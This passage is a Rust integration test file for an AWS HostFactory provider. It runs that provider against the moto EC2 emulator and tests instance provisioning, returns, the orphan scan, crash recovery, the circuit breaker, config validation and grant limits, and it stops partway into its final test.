//! The AWS provider end to end: IBM's `<instance>prov_config.json` and
//! `<instance>prov_templates.json` in the conf dir, the real scripts, and moto's EC2 server
//! started on a free loopback port. Meaning is checked in the emulator: names are the
//! instances' private DNS names, exactly as many instances as asked, returned ones
//! terminated, reclaims seen, crashes repaired.
//!
//! moto cannot show: a pending period (instances are `running` at once), client-token
//! idempotency (ignored), spot interruptions (simulated here by terminating behind our
//! back). The pending timeout and adoption logic are tested without it in
//! `host/src/service/tests.rs`.

mod common;

use common::moto::{Moto, aws_tree, templates};
use common::*;
use serde_json::{Value, json};

#[test]
fn ibm_files_drive_a_full_cycle_against_the_emulator() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let tree = aws_tree(&moto, templates(&subnet, &sg, &ami));

    // Templates: ncpus/nram from DescribeInstanceTypes, not from the file.
    let t = tree.ok("getAvailableTemplates", &json!({}));
    let od = template(&t, "OnDemand-Template-VM");
    let (_, cores, mib) = moto.type_info("t3.micro");
    assert_eq!(od["attributes"]["ncpus"], json!(["Numeric", cores.to_string()]));
    assert_eq!(od["attributes"]["nram"], json!(["Numeric", mib.to_string()]));
    assert_eq!(od["maxNumber"], 10);
    // Weighted: per unit, the smallest of cores/weight and MiB/weight over the types.
    let w = template(&t, "Weighted-Spot-VM");
    let (_, c1, m1) = moto.type_info("m5.large");
    let (_, c2, m2) = moto.type_info("m5.xlarge");
    assert_eq!(w["attributes"]["ncpus"], json!(["Numeric", c1.min(c2 / 2).max(1).to_string()]));
    assert_eq!(w["attributes"]["nram"], json!(["Numeric", m1.min(m2 / 2).to_string()]));

    // Three on-demand hosts.
    let id = tree.request("OnDemand-Template-VM", 3);
    let done = tree.until_final(&id);
    assert_eq!(done["status"], "complete", "{done}");
    let in_emulator = moto.instances_of(&id);
    assert_eq!(in_emulator.len(), 3, "exactly three instances, no overshoot");
    let machines = names_and_ids(&done);
    for (iid, state, dns, tags) in &in_emulator {
        assert_eq!(state, "running");
        assert!(
            machines.contains(&(dns.clone(), iid.clone())),
            "name must be the private DNS name of {iid}: {machines:?}"
        );
        assert!(
            tags.contains(&("team".into(), "hpc".into())) && tags.contains(&("hfwasm:provider".into(), "pool".into())),
            "{tags:?}"
        );
    }
    for m in done["machines"].as_array().expect("machines") {
        assert!(m["privateIpAddress"].as_str().is_some_and(|ip| ip.starts_with("10.0.1.")), "{m}");
        assert!(m["launchtime"].as_u64().is_some_and(|t| t > 1_600_000_000), "{m}");
    }

    // Three of ten are in use: availableNumber says so, and the host refuses more than that.
    let t = tree.ok("getAvailableTemplates", &json!({}));
    let od = template(&t, "OnDemand-Template-VM");
    assert_eq!(od["availableNumber"], 7);
    let e = tree.err(
        "requestMachines",
        &json!({"template": {"templateId": "OnDemand-Template-VM", "machineCount": 8}}),
        "INVALID_MACHINE_COUNT",
    );
    assert!(
        e["error"]["message"].as_str().is_some_and(|m| m.contains("availableNumber 7")),
        "{e}"
    );

    // Return two: terminated in the emulator.
    let ret_in: Vec<Value> = machines[..2].iter().map(|(n, i)| json!({"name": n, "machineId": i})).collect();
    let r = tree.ok("requestReturnMachines", &json!({"machines": ret_in}));
    let ret = tree.until_final(r["requestId"].as_str().expect("id"));
    assert_eq!(ret["status"], "complete", "{ret}");
    let after = moto.instances_of(&id);
    for (n, i) in &machines[..2] {
        let state = &after.iter().find(|x| &x.0 == i).expect("still listed").1;
        assert_eq!(state, "terminated", "{n} returned");
    }

    // The third is terminated behind our back: getReturnRequests reports it at once.
    let (kept_name, kept_id) = machines[2].clone();
    let listed = json!({"machines": [{"name": kept_name, "machineId": kept_id}]});
    assert_eq!(tree.ok("getReturnRequests", &listed)["requests"], json!([]));
    moto.terminate(&kept_id);
    let rr = tree.ok("getReturnRequests", &listed);
    assert_eq!(
        rr["requests"],
        json!([{"machine": kept_name, "machineId": kept_id, "gracePeriod": 0}])
    );

    // Weighted spot via Spot Fleet (the template names a fleetRole): 4 units of m5.large (1)
    // / m5.xlarge (2); the fleet is cancelled once full, its instances keep running.
    let sid = tree.request("Weighted-Spot-VM", 4);
    let sdone = tree.until_final(&sid);
    assert_eq!(sdone["status"], "complete", "{sdone}");
    let stypes = moto.running_types_of(&sid);
    let sunits: u32 = stypes.iter().map(|t| if t == "m5.xlarge" { 2 } else { 1 }).sum();
    assert!(sunits >= 4, "the fleet delivers at least the 4 units asked: {stypes:?}");
    assert_eq!(
        machine_names(&sdone, "succeed").len(),
        stypes.len(),
        "every fleet instance is reported"
    );
    let fleets: Vec<_> = moto
        .spot_fleets()
        .into_iter()
        .filter(|f| f.2.contains(&("hfwasm:request".to_string(), sid.clone())))
        .collect();
    assert_eq!(fleets.len(), 1, "one Spot Fleet for the request, tagged with it");
    assert!(fleets[0].1.starts_with("cancelled"), "a full fleet is cancelled: {fleets:?}");
    assert!(fleets[0].2.contains(&("hfwasm:provider".to_string(), "pool".to_string())));

    // Weighted spot via EC2 Fleet (no fleetRole): 4 units of m5.large (1) / m5.xlarge (2).
    let fid = tree.request("Weighted-Fleet-VM", 4);
    let fdone = tree.until_final(&fid);
    assert_ne!(fdone["status"], "running");
    let types = moto.running_types_of(&fid);
    let units: u32 = types.iter().map(|t| if t == "m5.xlarge" { 2 } else { 1 }).sum();
    assert_eq!(units, 4, "exactly 4 units (m5.large = 1, m5.xlarge = 2), no overshoot: {types:?}");
    assert_eq!(fdone["status"], "complete", "{fdone}");
    assert_eq!(
        machine_names(&fdone, "succeed").len(),
        types.len(),
        "every fleet instance is reported"
    );
    assert!(
        moto.instances_of(&fid)
            .iter()
            .all(|x| x.3.contains(&("hfwasm:template".into(), "Weighted-Fleet-VM".into())))
    );

    // Unknown ids are final.
    let s = tree.ok("getRequestStatus", &json!({"requests": [{"requestId": "r-0123456789abcdef0"}]}));
    assert_eq!(s["requests"][0]["status"], "complete_with_error");
}

/// DescribeInstances calls hfwasm logged (debug level) in `tree`'s log from byte `from` on.
fn describes_since(tree: &HfTree, from: u64) -> usize {
    let log = std::fs::read(tree.logs.join("hfwasm-pool.log")).unwrap_or_default();
    let tail = String::from_utf8_lossy(&log[usize::try_from(from).unwrap_or(0).min(log.len())..]).to_string();
    tail.lines()
        .filter(|l| l.contains("cloud call") && l.contains("DescribeInstances"))
        .count()
}

fn log_len(tree: &HfTree) -> u64 {
    std::fs::metadata(tree.logs.join("hfwasm-pool.log")).map_or(0, |m| m.len())
}

#[test]
fn one_status_call_over_many_requests_makes_one_describe() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let tree = aws_tree(&moto, templates(&subnet, &sg, &ami));
    tree.set_env("HFWASM_LOG", "info,hfwasm=debug");
    let ids: Vec<String> = (0..4).map(|_| tree.request("OnDemand-Template-VM", 2)).collect();
    let from = log_len(&tree);
    let input = json!({"requests": ids.iter().map(|id| json!({"requestId": id})).collect::<Vec<_>>()});
    let s = tree.ok("getRequestStatus", &input);
    assert_eq!(describes_since(&tree, from), 1, "8 instances of 4 requests: one DescribeInstances");
    for (i, id) in ids.iter().enumerate() {
        let r = &s["requests"][i];
        assert_eq!(r["requestId"], json!(id));
        assert_eq!(r["status"], "complete", "{r}");
        let mut got = names_and_ids(r);
        got.sort();
        let mut want: Vec<(String, String)> = moto.instances_of(id).into_iter().map(|(iid, _, dns, _)| (dns, iid)).collect();
        want.sort();
        assert_eq!(got, want, "each request reports exactly its own instances");
    }
}

/// availableNumber comes from the guest's kv ledger of units held, not from a describe on
/// every poll: after the first, getAvailableTemplates sends EC2 nothing (moto's recorder
/// sees no request at all), and the figure follows launches (weighted in units), returns,
/// reclaims seen by getReturnRequests and, for an instance ended where no HostFactory call
/// looks, the orphan scan's listing.
#[test]
fn template_polls_make_no_cloud_call_and_available_number_stays_exact() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let tree = aws_tree(&moto, templates(&subnet, &sg, &ami));
    let free = |id: &str| template(&tree.ok("getAvailableTemplates", &json!({})), id)["availableNumber"].clone();
    // An instance from before the ledger existed (an upgraded installation): the first poll
    // builds the ledger from one describe, so it counts.
    let older = moto.launch_tagged(
        &ami,
        &subnet,
        &[
            ("hfwasm:provider", "pool"),
            ("hfwasm:request", "req-older"),
            ("hfwasm:template", "OnDemand-Template-VM"),
        ],
    );
    assert_eq!(free("OnDemand-Template-VM"), 9);

    let id = tree.request("OnDemand-Template-VM", 3);
    let done = tree.until_final(&id);
    assert_eq!(done["status"], "complete", "{done}");
    let fid = tree.request("Weighted-Fleet-VM", 4);
    assert_eq!(tree.until_final(&fid)["status"], "complete");

    moto.reset_recording();
    moto.start_recording();
    let t = tree.ok("getAvailableTemplates", &json!({}));
    let sent = moto.recorded_actions();
    assert_eq!(sent, Vec::<String>::new(), "a template poll sends EC2 nothing");
    assert_eq!(template(&t, "OnDemand-Template-VM")["availableNumber"], 6, "1 older + 3 new of 10");
    assert_eq!(
        template(&t, "Weighted-Fleet-VM")["availableNumber"],
        16,
        "4 units of 20, whatever the types"
    );
    assert_eq!(template(&t, "Weighted-Spot-VM")["availableNumber"], 20);

    // A return frees its host at once.
    let machines = names_and_ids(&done);
    let (n0, i0) = &machines[0];
    let r = tree.ok("requestReturnMachines", &json!({"machines": [{"name": n0, "machineId": i0}]}));
    assert_eq!(free("OnDemand-Template-VM"), 7);
    assert_eq!(tree.until_final(r["requestId"].as_str().expect("id"))["status"], "complete");
    assert_eq!(free("OnDemand-Template-VM"), 7);

    // One ended behind HostFactory's back: the reclaim check (every poll) frees it.
    let (n1, i1) = &machines[1];
    moto.terminate(i1);
    let listed = json!({"machines": [{"name": n1, "machineId": i1}, {"name": machines[2].0, "machineId": machines[2].1}]});
    assert_eq!(tree.ok("getReturnRequests", &listed)["requests"].as_array().map(Vec::len), Some(1));
    assert_eq!(free("OnDemand-Template-VM"), 8);

    // One no HostFactory call looks at: the orphan scan's listing (once the store's history
    // is old enough for the scan to run) frees it.
    moto.terminate(&older);
    assert_eq!(free("OnDemand-Template-VM"), 8, "nothing has looked yet");
    tree.set_env("HFWASM_NOW_OFFSET_SECS", "3600");
    tree.ok("getReturnRequests", &json!({"machines": []}));
    tree.ok("getReturnRequests", &json!({"machines": []}));
    tree.unset_env("HFWASM_NOW_OFFSET_SECS");
    assert_eq!(free("OnDemand-Template-VM"), 9);
}

#[test]
fn instances_no_record_accounts_for_are_terminated_by_the_orphan_scan() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let tree = aws_tree(&moto, templates(&subnet, &sg, &ami));
    // A site that was already running when this store began: never judged.
    let before = moto.launch_tagged(
        &ami,
        &subnet,
        &[("hfwasm:provider", "pool"), ("hfwasm:request", "req-from-an-older-store")],
    );
    std::thread::sleep(std::time::Duration::from_millis(1100));
    tree.ok("getReturnRequests", &json!({"machines": []}));
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let kept = tree.request("OnDemand-Template-VM", 1);
    assert_eq!(tree.until_final(&kept)["status"], "complete");
    // Launched with our tags for a request the store never recorded, and one tagged with
    // a real request it never made (an overshooting retry); another provider's is not ours.
    // Everything this installation launches carries its store's id.
    let store = moto.instances_of(&kept)[0]
        .3
        .iter()
        .find(|t| t.0 == "hfwasm:store")
        .map(|t| t.1.clone())
        .expect("hfwasm:store tag");
    let ghost = moto.launch_tagged(
        &ami,
        &subnet,
        &[
            ("hfwasm:provider", "pool"),
            ("hfwasm:request", "req-ghost"),
            ("hfwasm:store", &store),
        ],
    );
    let extra = moto.launch_tagged(
        &ami,
        &subnet,
        &[("hfwasm:provider", "pool"), ("hfwasm:request", &kept), ("hfwasm:store", &store)],
    );
    let foreign = moto.launch_tagged(&ami, &subnet, &[("hfwasm:provider", "other"), ("hfwasm:request", "req-x")]);
    // Another cluster in the same account under the same provider instance name, with its own store.
    let other_cluster = moto.launch_tagged(
        &ami,
        &subnet,
        &[
            ("hfwasm:provider", "pool"),
            ("hfwasm:request", "req-theirs"),
            ("hfwasm:store", "their-store"),
        ],
    );
    let state = |id: &str| moto.instances().into_iter().find(|x| x.0 == id).map(|x| x.1).unwrap_or_default();
    // Within the creation timeout nothing is touched (a call may still be recording them).
    tree.ok("getReturnRequests", &json!({"machines": []}));
    assert_eq!(state(&ghost), "running");
    tree.set_env("HFWASM_NOW_OFFSET_SECS", "3600");
    tree.ok("getReturnRequests", &json!({"machines": []}));
    tree.unset_env("HFWASM_NOW_OFFSET_SECS");
    assert_eq!(state(&ghost), "terminated", "unknown request: orphan");
    assert_eq!(state(&extra), "terminated", "not among its request's machines: orphan");
    assert_eq!(state(&foreign), "running", "another provider instance's");
    assert_eq!(
        state(&other_cluster),
        "running",
        "another store's (another cluster sharing the name)"
    );
    assert_eq!(state(&before), "running", "launched before this store's history began");
    let kept_ids: Vec<String> = moto
        .instances_of(&kept)
        .into_iter()
        .filter(|x| x.1 == "running")
        .map(|x| x.0)
        .collect();
    assert_eq!(
        kept_ids.len(),
        1,
        "the recorded instance of the request lives on (the extra one went)"
    );
    let log = std::fs::read_to_string(tree.logs.join("hfwasm-pool.log")).unwrap_or_default();
    assert!(log.contains("orphan") && log.contains(&ghost), "each orphan is logged");
}

#[test]
fn a_crash_after_the_cloud_call_leaks_nothing() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let tree = aws_tree(&moto, templates(&subnet, &sg, &ami));
    tree.set_env("HFWASM_FAULT", "request-machines:after-provider");
    let o = tree.run(
        "requestMachines",
        &json!({"template": {"templateId": "OnDemand-Template-VM", "machineCount": 2}}),
    );
    assert_ne!(o.code, 0, "the fault point kills the call");
    assert_eq!(o.json, Value::Null, "nothing reached HostFactory");
    tree.unset_env("HFWASM_FAULT");
    let launched: Vec<_> = moto.instances().into_iter().filter(|x| x.1 == "running").collect();
    assert_eq!(launched.len(), 2, "the cloud call happened before the crash");

    // Within the creation timeout nothing is touched (the call might still be running)...
    tree.ok("getReturnRequests", &json!({"machines": []}));
    assert_eq!(moto.instances().into_iter().filter(|x| x.1 == "running").count(), 2);
    // ...after it (INSTANCE_CREATION_TIMEOUT, 10 min by default), the sweep terminates them.
    tree.set_env("HFWASM_NOW_OFFSET_SECS", "3600");
    tree.ok("getReturnRequests", &json!({"machines": []}));
    tree.unset_env("HFWASM_NOW_OFFSET_SECS");
    let states: Vec<String> = launched
        .iter()
        .map(|(id, ..)| moto.instances().into_iter().find(|x| &x.0 == id).map(|x| x.1).unwrap_or_default())
        .collect();
    assert!(
        states.iter().all(|s| s == "terminated"),
        "abandoned instances must be terminated: {states:?}"
    );

    // And the provider still works.
    let id = tree.request("OnDemand-Template-VM", 1);
    assert_eq!(tree.until_final(&id)["status"], "complete");
}

#[test]
fn bad_templates_config_and_grants_are_named() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let mut t = templates(&subnet, &sg, &ami);
    t[0]["vmTypo"] = json!("t3.micro");
    let tree = aws_tree(&moto, t);
    // The misspelt template is left out, named in the log; the others are still offered.
    let offered = tree.ok("getAvailableTemplates", &json!({}));
    assert!(
        offered["templates"]
            .as_array()
            .is_some_and(|l| l.len() == 2 && l.iter().all(|t| t["templateId"] != "OnDemand-Template-VM")),
        "{offered}"
    );
    let log = std::fs::read_to_string(tree.logs.join("hfwasm-pool.log")).unwrap_or_default();
    assert!(
        log.contains("templates[0].vmTypo") && log.contains("did you mean `vmType`?"),
        "{log}"
    );
    tree.err(
        "requestMachines",
        &json!({"template": {"templateId": "OnDemand-Template-VM", "machineCount": 1}}),
        "TEMPLATE_NOT_FOUND",
    );

    let tree = aws_tree(&moto, templates(&subnet, &sg, &ami));
    let cfg = tree.conf.join("poolprov_config.json");
    let mut c: Value = serde_json::from_str(&std::fs::read_to_string(&cfg).expect("read")).expect("json");
    c["AWS_REGON"] = json!("us-east-1");
    std::fs::write(&cfg, c.to_string()).expect("write");
    let e = tree.err("getAvailableTemplates", &json!({}), "CONFIG_ERROR");
    let msg = e["error"]["message"].as_str().unwrap_or_default();
    assert!(msg.contains("poolprov_config.json") && msg.contains("AWS_REGON"), "{msg}");

    // A site narrows the AWS guest's grant: t3.micro is no longer allowed.
    let tree = aws_tree(&moto, templates(&subnet, &sg, &ami));
    tree.config(&json!({
        "aws": {"config_file": "poolprov_config.json", "templates_file": "poolprov_templates.json"},
        "guests": {"aws": {"wasm": "builtin:aws", "grants": ["log", "kv", "ec2"], "ec2": {"regions": ["us-east-1"], "instance_types": ["m5.large", "m5.xlarge"], "max_per_request": 10}}}
    }));
    let before = moto.instances().len();
    let e = tree.err(
        "requestMachines",
        &json!({"template": {"templateId": "OnDemand-Template-VM", "machineCount": 1}}),
        "PROVIDER_ERROR",
    );
    let msg = e["error"]["message"].as_str().unwrap_or_default();
    assert!(msg.contains("t3.micro") && msg.contains("not granted"), "{msg}");
    assert_eq!(moto.instances().len(), before, "nothing launched outside the grant");
}

#[test]
fn the_shipped_ibm_samples_work_against_the_emulator() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    // config/awsprov_templates.json with this emulator's subnet, security group and AMI.
    let text = std::fs::read_to_string(repo().join("config/awsprov_templates.json")).expect("sample");
    let text = text
        .replace("subnet-0fedcba9876543210", &subnet)
        .replace("subnet-0123456789abcdef0", &subnet)
        .replace("sg-0123456789abcdef0", &sg)
        .replace("ami-0123456789abcdef0", &ami);
    let sample: Value = serde_json::from_str(&text).expect("json");
    let tree = aws_tree(&moto, sample["templates"].clone());
    let t = tree.ok("getAvailableTemplates", &json!({}));
    let ids: Vec<&str> = t["templates"]
        .as_array()
        .expect("templates")
        .iter()
        .filter_map(|t| t["templateId"].as_str())
        .collect();
    assert_eq!(ids, ["OnDemand-Template-VM", "Spot-Template-VM", "Hetero-Template-VM"]);
    // Heterogeneous: 4 units, a quarter on-demand from c5.2xlarge.
    let id = tree.request("Hetero-Template-VM", 4);
    let done = tree.until_final(&id);
    assert_eq!(done["status"], "complete", "{done}");
    let types = moto.running_types_of(&id);
    let units: u32 = types.iter().map(|t| if t == "c5.4xlarge" { 2 } else { 1 }).sum();
    assert_eq!(units, 4, "{types:?}");
}

#[test]
fn an_unreachable_cloud_opens_the_circuit_for_every_later_process() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let tree = aws_tree(&moto, templates(&subnet, &sg, &ami));
    // The seed's circuit_breaker keys, beside IBM's files.
    tree.config(&json!({
        "aws": {"config_file": "poolprov_config.json", "templates_file": "poolprov_templates.json"},
        "provider": {"circuit_breaker": {"enabled": true, "failure_threshold": 2, "recovery_timeout": 300}}
    }));
    let request = json!({"template": {"templateId": "OnDemand-Template-VM", "machineCount": 1}});
    let first = tree.request("OnDemand-Template-VM", 1);
    assert_eq!(tree.until_final(&first)["status"], "complete");

    // The cloud goes away: a closed loopback port.
    let (config_file, good) = common::moto::cloud_goes_away(&tree);
    for _ in 0..2 {
        let e = tree.err("requestMachines", &request, "PROVIDER_UNAVAILABLE");
        let msg = e["error"]["message"].as_str().unwrap_or_default();
        assert!(!msg.contains("circuit open"), "a real failure, counted: {msg}");
    }
    // Open: the next process refuses at once, naming the breaker and when it will retry.
    let e = tree.err("requestMachines", &request, "PROVIDER_UNAVAILABLE");
    let msg = e["error"]["message"].as_str().unwrap_or_default();
    assert!(
        msg.contains("circuit open for provider 'aws'")
            && msg.contains("2 consecutive failures")
            && msg.contains("provider.circuit_breaker"),
        "{msg}"
    );
    // The cloud is back, but the circuit stays open until the recovery timeout: the state
    // is in the store, not in a process. Status of known requests is still answered.
    std::fs::write(&config_file, good.to_string()).expect("write");
    let e = tree.err("requestMachines", &request, "PROVIDER_UNAVAILABLE");
    assert!(e["error"]["message"].as_str().is_some_and(|m| m.contains("circuit open")), "{e}");
    assert_eq!(tree.until_final(&first)["status"], "complete");
    assert_eq!(moto.live().len(), 1, "nothing was launched while the circuit was open");

    // After recovery_timeout one trial goes through; it succeeds and closes the circuit.
    tree.set_env("HFWASM_NOW_OFFSET_SECS", "400");
    let trial = tree.request("OnDemand-Template-VM", 1);
    assert_eq!(tree.until_final(&trial)["status"], "complete");
    let next = tree.request("OnDemand-Template-VM", 1);
    assert_eq!(tree.until_final(&next)["status"], "complete");
    assert_eq!(moto.live().len(), 3);
    let log = std::fs::read_to_string(tree.logs.join("hfwasm-pool.log")).unwrap_or_default();
    assert!(
        log.contains("circuit open") && log.contains("circuit closed"),
        "both transitions are logged"
    );
}

#[test]
fn the_seed_v2_config_serves_the_cycle_as_is() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let tree = aws_tree(&moto, templates(&subnet, &sg, &ami));
    // Credentials only under the profile the seed's config names.
    std::fs::write(
        tree.conf.join("credentials"),
        "[development]\naws_access_key_id = testing\naws_secret_access_key = testing\n",
    )
    .expect("creds");
    // Scenario 1 of the seed (JSON storage, one AWS provider), as written there but for paths.
    tree.config(&json!({
        "version": "2.0.0",
        "provider": {
            "active_provider": "aws-dev",
            "circuit_breaker": {"enabled": true, "failure_threshold": 5, "recovery_timeout": 300},
            "providers": [{
                "name": "aws-dev", "type": "aws", "enabled": true, "priority": 1,
                "config": {"region": "us-east-1", "profile": "development", "max_retries": 5, "timeout": 60,
                           "handlers": {"types": {"ec2_fleet": "EC2Fleet", "spot_fleet": "SpotFleet"}}}
            }]
        },
        "storage": {"strategy": "json", "json_strategy": {"storage_type": "single_file", "base_path": "data"}},
        "logging": {"level": "INFO", "file_path": "logs/app.log", "max_size": 100, "backup_count": 10}
    }));
    let id = tree.request("OnDemand-Template-VM", 2);
    let done = tree.until_final(&id);
    assert_eq!(done["status"], "complete", "{done}");
    assert_eq!(moto.instances_of(&id).len(), 2);
    let (code, out, err) = admin(&tree, &["config", "check"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("region us-east-1") && out.contains("store:     json"), "{out}");
    assert!(tree.work.join("logs/app.log").is_file(), "logging.file_path");
    // The profile is what finds the credentials: another one finds none.
    tree.config(&json!({
        "version": "2.0.0",
        "provider": {"providers": [{"name": "aws-dev", "type": "aws", "config": {"profile": "production"}}]}
    }));
    let e = tree.err("getAvailableTemplates", &json!({}), "PROVIDER_UNAVAILABLE");
    assert!(e["error"]["message"].as_str().is_some_and(|m| m.contains("[production]")), "{e}");
}

#[test]
fn the_seed_yaml_variant_serves_the_cycle() {
    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let tree = common::HfTree::new("");
    for (k, v) in common::moto::ENV {
        tree.set_env(k, v);
    }
    // Seed 001's endpoint comes from the standard AWS_ENDPOINT_URL (it has no key for it).
    tree.set_env("AWS_ENDPOINT_URL", &moto.endpoint);
    // Seed 001, scenario 3's shape in YAML (`config.yml`), templates in its snake_case form
    // (the scenarios exactly as written, DynamoDB included: tests/seed_scenarios.rs).
    let yaml = format!(
        "# config/config.yml\nprovider:\n  type: aws\n  aws:\n    region: us-east-1\n    max_retries: 5\n    timeout: 60\n\nlogging:\n  level: INFO\n  max_size: 100MB\n  backup_count: 10\n\ntemplates:\n  - template_id: basic-template\n    max_number: 10\n    attributes:\n      vm_type: t3.micro\n      image_id: {ami}\n      subnet_id: {subnet}\n      security_group_ids: [{sg}]\n      instance_tags: \"team=hpc\"\n"
    );
    std::fs::write(tree.conf.join("config.yml"), &yaml).expect("yaml");
    let offer = tree.ok("getAvailableTemplates", &json!({}));
    let t = template(&offer, "basic-template");
    assert_eq!(t["maxNumber"], 10, "{t}");
    let id = tree.request("basic-template", 2);
    let done = tree.until_final(&id);
    assert_eq!(done["status"], "complete", "{done}");
    let mut want: Vec<(String, String)> = moto.instances_of(&id).into_iter().map(|(iid, _, dns, _)| (dns, iid)).collect();
    want.sort();
    assert_eq!(names_and_ids(&done), want);
    assert!(
        moto.instances_of(&id)
            .iter()
            .all(|(_, _, _, tags)| tags.iter().any(|(k, v)| k == "team" && v == "hpc"))
    );

    // The seed's keys hfwasm has no use for are refused, named, with the reason (and
    // monitoring without its endpoint says what it needs).
    for (extra, setting, words) in [
        ("monitoring:\n  enabled: true\n", "monitoring.metrics_endpoint", "Pushgateway"),
        ("caching:\n  enabled: true\n", "caching", "nothing to tune"),
    ] {
        std::fs::write(tree.conf.join("config.yml"), format!("{yaml}{extra}")).expect("yaml");
        let e = tree.err("getAvailableTemplates", &json!({}), "CONFIG_ERROR");
        assert_eq!(e["error"]["details"]["setting"], setting, "{e}");
        assert!(e["error"]["message"].as_str().is_some_and(|m| m.contains(words)), "{e}");
    }
    // A YAML syntax error names the file and the line.
    std::fs::write(tree.conf.join("config.yml"), "provider:\n  type: aws\n   aws: [\n").expect("yaml");
    let e = tree.err("getAvailableTemplates", &json!({}), "CONFIG_ERROR");
    let msg = e["error"]["message"].as_str().unwrap_or_default();
    assert!(msg.contains("config.yml") && msg.contains("line"), "{msg}");
}

/// The EC2 operations a site's own guest may use beyond what the built-in guest needs:
/// launch templates and EC2 Fleets of its own, through the capability exactly as a guest
/// calls it, against moto. Each serves only what this provider instance's tag marks.
#[test]
fn fleet_and_launch_template_operations_serve_only_what_this_provider_instance_owns() {
    use hfwasm::capabilities::ec2::{Ec2Grant, GuestEc2};
    use hfwasm::engine::bindings::hostfactory::capabilities::ec2::{self as wit, Ec2Error, Host};
    use hfwasm::engine::sandbox::HostWait;

    let moto = Moto::start();
    let (subnet, sg, ami) = moto.network();
    let dir = tempfile::tempdir().expect("tempdir");
    let client = moto.hfwasm_client(dir.path());
    let guest = |owner: &str| {
        GuestEc2::new(
            Some(client.clone()),
            Ec2Grant {
                max_per_request: 10,
                ..Ec2Grant::default()
            },
            owner.into(),
            "store-test".into(),
            HostWait::default(),
        )
    };
    let (mut alpha, mut beta) = (guest("alpha"), guest("beta"));
    let spec = wit::LaunchSpec {
        image_id: ami,
        subnet_ids: vec![subnet],
        security_group_ids: vec![sg],
        key_name: None,
        instance_profile_arn: None,
        user_data: None,
        tags: vec![wit::Tag {
            key: "team".into(),
            value: "hpc".into(),
        }],
        root_volume: None,
        launch_template_id: None,
        launch_template_version: None,
        ebs_optimized: None,
        placement: None,
        network_interfaces: None,
    };
    let lt_request = wit::LaunchTemplateRequest {
        request_id: "req-lt-1".into(),
        template_id: "od".into(),
        spec: spec.clone(),
    };
    let lt = alpha.create_launch_template(lt_request.clone()).expect("create launch template");
    assert!(lt.starts_with("lt-"), "{lt}");
    assert_eq!(
        alpha.create_launch_template(lt_request).expect("again"),
        lt,
        "the same request finds the same template"
    );
    let tags = moto
        .rt
        .block_on(moto.ec2.describe_launch_templates().launch_template_ids(&lt).send())
        .expect("describe lt");
    let owner = tags.launch_templates()[0]
        .tags()
        .iter()
        .find(|t| t.key() == Some("hfwasm:provider"))
        .and_then(|t| t.value())
        .map(str::to_string);
    assert_eq!(owner.as_deref(), Some("alpha"));
    let nested = alpha.create_launch_template(wit::LaunchTemplateRequest {
        request_id: "req-lt-2".into(),
        template_id: "od".into(),
        spec: wit::LaunchSpec {
            launch_template_id: Some(lt.clone()),
            ..spec.clone()
        },
    });
    assert!(matches!(nested, Err(Ec2Error::Denied(_))), "{nested:?}");
    assert!(matches!(beta.delete_launch_template(lt.clone()), Err(Ec2Error::Denied(ref m)) if m.contains(&lt)));

    // An instant fleet launched from that template, as a site's guest would.
    let fleet = alpha
        .create_fleet(wit::FleetRequest {
            request_id: "req-fleet-1".into(),
            template_id: "od".into(),
            spec: wit::LaunchSpec {
                launch_template_id: Some(lt.clone()),
                ..spec
            },
            overrides: vec![wit::FleetOverride {
                instance_type: "t3.micro".into(),
                subnet_id: None,
                weight: None,
                priority: None,
                max_price: None,
            }],
            total_units: 2,
            on_demand_units: 2,
            spot_allocation_strategy: None,
            on_demand_allocation_strategy: None,
            spot_max_price: None,
        })
        .expect("create fleet");
    assert_eq!(fleet.instance_ids.len(), 2, "{fleet:?}");
    let mut listed = alpha
        .describe_fleet_instances(fleet.fleet_id.clone())
        .expect("describe fleet instances");
    listed.sort();
    let mut launched = fleet.instance_ids.clone();
    launched.sort();
    assert_eq!(listed, launched);
    for (id, _, _, tags) in moto.instances().into_iter().filter(|i| launched.contains(&i.0)) {
        assert!(tags.contains(&("hfwasm:provider".into(), "alpha".into())), "{id}: {tags:?}");
        assert!(tags.contains(&("team".into(), "hpc".into())), "{id}: {tags:?}");
    }

    // Another provider instance can neither see nor delete it; nothing is terminated.
    assert!(matches!(
        beta.describe_fleet_instances(fleet.fleet_id.clone()),
        Err(Ec2Error::Denied(_))
    ));
    assert!(matches!(
        beta.delete_fleets(vec![fleet.fleet_id.clone()], true),
        Err(Ec2Error::Denied(_))
    ));
    assert!(matches!(
        alpha.describe_fleet_instances("fleet-00000000-0000-0000-0000-000000000000".into()),
        Err(Ec2Error::Denied(_))
    ));
    let live = moto.live();
    assert!(launched.iter().all(|id| live.contains(id)), "{live:?}");

    // Its owner deletes it with its instances, then the template.
    alpha.delete_fleets(vec![fleet.fleet_id.clone()], true).expect("delete fleets");
    let live = moto.live();
    assert!(
        launched.iter().all(|id| !live.contains(id)),
        "still running after DeleteFleets: {live:?}"
    );
    alpha.delete_launch_template(lt.clone()).expect("delete launch template");
    let gone = moto
        .rt
        .block_on(moto.ec2.describe_launch_templates().launch_template_ids(&lt).send());
    assert!(
        gone.map(|d| d.launch_templates().is_empty()).unwrap_or(true),
        "template {lt} still there"
    );
    assert!(matches!(alpha.delete_launch_template(lt), Err(Ec2Error::Denied(_))), "gone is gone");
}

/// A guest asked for one host cannot launch more for that request over repeated calls, nor
/// for a request the host never recorded, nor with an image, subnet, profile, key or user
/// data of its own choosing: through the capability exactly as a guest calls it.
#[test]
fn grants_bound_what_a_request_may_hold_and_what_a_launch_may_use() {
    use hfwasm::capabilities::ec2::GuestEc2;
    use hfwasm::engine::bindings::hostfactory::capabilities::ec2::{self as wit, Ec2Error, Host};
    use hfwasm::engine::sandbox::HostWait;
    use hfwasm::store::StateStore;
    use std::sync::Arc;

    let moto = Moto::start();
